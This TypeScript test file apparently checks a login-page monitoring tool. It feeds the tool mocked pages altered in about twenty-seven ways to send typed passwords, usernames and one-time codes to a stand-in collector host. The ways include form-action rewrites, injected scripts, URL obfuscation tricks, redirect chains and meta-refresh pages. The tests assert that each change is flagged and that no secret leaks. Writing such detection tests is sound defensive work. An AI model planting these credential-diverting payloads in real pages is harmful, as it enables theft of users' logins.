import { http } from 'msw';
import { Html } from '../../core/base/html.ts';
import { accounts } from '../../core/targets/offline-accounts.ts';
import type { DriftClass } from '../../core/verdict/drift.ts';
import { collector, leadOn, withLoginAnswers, withLoginPages } from '../../mocks/faults/collector.ts';
import type { Knobs } from '../../mocks/knobs.ts';
import { page } from '../../mocks/page.ts';
import type { World } from '../../mocks/world.ts';
import { expect, testIn, tiers } from './test.ts';

type Handlers = ReturnType<typeof withLoginPages>;

interface LoginPage {
  handlers: Handlers;
  knobs?: Partial<Knobs>;
  /** What a run comes to, in either tier or in each. */
  comesTo: DriftClass | Record<'http' | 'browser', DriftClass>;
}

const changed = (change: (text: string) => string): Handlers => withLoginPages(change);
const button = /<button type="submit"[^>]*>Log In<\/button>/;
const action = /action="([^"]*)"/;
const scriptsKnow = { http: 'inconclusive', browser: 'login-changed' } as const;

/** Ways in which a login page may send what is typed into it. None of them is in the catalogue of faults. */
const loginPages: Readonly<Record<string, LoginPage>> = {
  'a picture for a button, with an address of its own': {
    handlers: changed((text) =>
      text.replace(
        button,
        `<input type="image" alt="Log In" data-qa="login" src="data:," width="60" height="20" formaction="${collector}/login">`,
      ),
    ),
    comesTo: 'login-changed',
  },
  'a base that opens another window': {
    handlers: changed((text) => text.replace('<head>', '<head><base target="_blank">')),
    comesTo: 'login-changed',
  },
  'a button that opens another window': {
    handlers: changed((text) =>
      text.replace('<button type="submit"', '<button type="submit" formtarget="login"'),
    ),
    comesTo: 'login-changed',
  },
  'an empty action where addresses are relative to another host: the page itself': {
    handlers: changed((text) =>
      text.replace('<head>', `<head><base href="${collector}/">`).replace(action, 'action=""'),
    ),
    comesTo: 'ok',
  },
  'no action where addresses are relative to another host: the page itself': {
    handlers: changed((text) =>
      text.replace('<head>', `<head><base href="${collector}/">`).replace(action, ''),
    ),
    comesTo: 'ok',
  },
  'fields called as what a script would ask the form for': {
    handlers: changed((text) => text.replace('</form>', `${confusing}</form>`)),
    comesTo: 'ok',
  },
  'fields called as what Playwright asks elements for': {
    handlers: changed((text) =>
      text.replace('</form>', `${hiddenFields('getAttribute', 'hasAttribute')}</form>`),
    ),
    comesTo: { http: 'ok', browser: 'login-changed' },
  },
  'fields called as what a script would ask for, and an address elsewhere': {
    handlers: changed((text) =>
      text.replace('</form>', `${confusing}</form>`).replace(action, `action="${collector}/login"`),
    ),
    comesTo: 'login-changed',
  },
  'fields called as what a script would ask for, and no method': {
    handlers: changed((text) => text.replace('</form>', `${confusing}</form>`).replace('method="post"', '')),
    comesTo: 'login-changed',
  },
  'a name before the host that looks like the own host': {
    handlers: changed((text) =>
      text.replace(action, `action="https://signin.infusionsoft.com@collect.example.net/login"`),
    ),
    comesTo: 'login-changed',
  },
  'another port of the own host': {
    handlers: changed((text) => text.replace(action, 'action="https://signin.infusionsoft.com:8443/login"')),
    comesTo: 'login-changed',
  },
  'backslashes, which browsers read as slashes': {
    handlers: changed((text) => text.replace(action, 'action="\\\\collect.example.net\\login"')),
    comesTo: 'login-changed',
  },
  'a line break in the address, which browsers leave out': {
    handlers: changed((text) => text.replace(action, 'action="htt\nps:/\t/collect.example.net/login"')),
    comesTo: 'login-changed',
  },
  'a password field of another form': {
    handlers: changed((text) =>
      text
        .replace('<input id="password"', '<input form="other" id="password"')
        .replace('</main>', `<form id="other" method="post" action="${collector}/login"></form></main>`),
    ),
    comesTo: 'login-changed',
  },
  'a name field of another form': {
    handlers: changed((text) =>
      text
        .replace('<input id="username"', '<input form="other" id="username"')
        .replace('</main>', `<form id="other" method="post" action="${collector}/login"></form></main>`),
    ),
    comesTo: 'login-changed',
  },
  'the method dialog, which sends nothing': {
    handlers: changed((text) => text.replace('method="post"', 'method="dialog"')),
    comesTo: scriptsKnow,
  },
  'plain text for another host': {
    handlers: changed((text) =>
      text
        .replace('method="post"', 'method="post" enctype="text/plain"')
        .replace(action, `action="${collector}/login"`),
    ),
    comesTo: 'login-changed',
  },
  'a button that changes the address as it is pressed': {
    handlers: changed((text) =>
      text.replace(
        '<button type="submit"',
        `<button type="submit" onclick="this.form.action='${collector}/login'"`,
      ),
    ),
    comesTo: scriptsKnow,
  },
  'a field that changes the address as somebody comes to it': {
    handlers: changed((text) =>
      text.replace(
        '<input id="password"',
        `<input onfocus="this.form.action='${collector}/login'" id="password"`,
      ),
    ),
    comesTo: scriptsKnow,
  },
  'a script that changes the address as the button is pressed': {
    handlers: changed((text) =>
      text.replace(
        '</body>',
        `<script>document.querySelector('[type=submit]').addEventListener('click', () => { document.forms[0].action = '${collector}/login' })</script></body>`,
      ),
    ),
    comesTo: scriptsKnow,
  },
  'a script that gives the button an address of its own': {
    handlers: changed((text) =>
      text.replace(
        '</body>',
        `<script>document.querySelector('[type=password]').addEventListener('input', () => document.querySelector('[type=submit]').setAttribute('formaction', '${collector}/login'))</script></body>`,
      ),
    ),
    comesTo: scriptsKnow,
  },
  'a login form in a frame': {
    handlers: changed((text) =>
      text.replace(
        /<form[\s\S]*<\/form>/,
        (form) => `<iframe srcdoc="${form.replaceAll('"', '&quot;')}"></iframe>`,
      ),
    ),
    comesTo: 'login-changed',
  },
  'a 308 to its own host, which is followed with all that was typed': {
    handlers: withLoginAnswers((form, { url }) =>
      form.has('password') && !url.includes('again') ? leadOn(308, `${url}&again=1`) : null,
    ),
    comesTo: 'ok',
  },
  'a chain of 308 that ends at another host': {
    handlers: withLoginAnswers((form, { url }) => {
      const count = Number(/again=(\d)/.exec(url)?.[1] ?? 0);
      if (!form.has('password')) return null;
      return leadOn(
        308,
        count < 3 ? `${url.replace(/&again=\d/, '')}&again=${count + 1}` : `${collector}/login`,
      );
    }),
    comesTo: 'login-changed',
  },
  'a page behind it that goes on by itself with the password in the address': {
    handlers: withLoginAnswers((form) =>
      form.has('password')
        ? page(
            'One moment',
            new Html(
              `<p>One moment</p><meta http-equiv="refresh" content="0;url=${collector}/?p=${encodeURIComponent(form.get('password') ?? '')}">`,
            ),
          )
        : null,
    ),
    comesTo: 'login-changed',
  },
  'the same, with the name in Base64': {
    handlers: withLoginAnswers((form) =>
      form.has('password')
        ? page(
            'One moment',
            new Html(
              `<p>One moment</p><meta http-equiv="refresh" content="0;url=${collector}/?u=${btoa(form.get('username') ?? '')}">`,
            ),
          )
        : null,
    ),
    comesTo: 'login-changed',
  },
  'a form for the code at another host, behind a redirect': {
    knobs: { oneTimeCode: true },
    handlers: (world) => [
      http.get(`${collector}/code`, () => page('Verify your identity', codeForm)),
      ...withLoginAnswers((form) => (form.has('password') ? leadOn(302, `${collector}/code`) : null))(world),
    ],
    comesTo: 'login-changed',
  },
};

const codeForm = new Html(
  '<form method="post" action="/code"><label for="token">Code</label><input id="token" name="token" autocomplete="one-time-code"><button type="submit">Verify</button></form>',
);

const confusing = hiddenFields('action', 'method', 'target', 'elements', 'submit', 'form', 'length');

function hiddenFields(...names: string[]): string {
  return names.map((name) => `<input type="hidden" name="${name}" value="/login">`).join('');
}

const secrets = Object.values(accounts).flatMap(({ password, oneTimeCode, username }) => [
  password,
  oneTimeCode,
  username,
]);

const sentElsewhere = (world: World) =>
  world.log.all.filter(
    ({ host, method, parameters }) =>
      host === new URL(collector).host && (method === 'POST' || parameters.length > 0),
  );

for (const tier of tiers) {
  const test = testIn[tier];
  for (const [what, { handlers, knobs = {}, comesTo }] of Object.entries(loginPages))
    test(`${tier}: nothing that was typed goes astray at a login page with ${what}`, async ({
      watch,
      world,
    }) => {
      world.break({ what, handlers, knobs });
      const { findings } = await watch();
      const expected = typeof comesTo === 'string' ? comesTo : comesTo[tier];
      expect(findings[0]).toMatchObject({
        class: expected,
        ...(expected === 'login-changed' && { severity: 'CRITICAL' }),
      });
      expect(sentElsewhere(world)).toEqual([]);
      expect(world.log.all.flatMap(({ parameters }) => parameters)).not.toContain('password');
      for (const secret of secrets) expect(JSON.stringify(findings)).not.toContain(secret);
    });
}
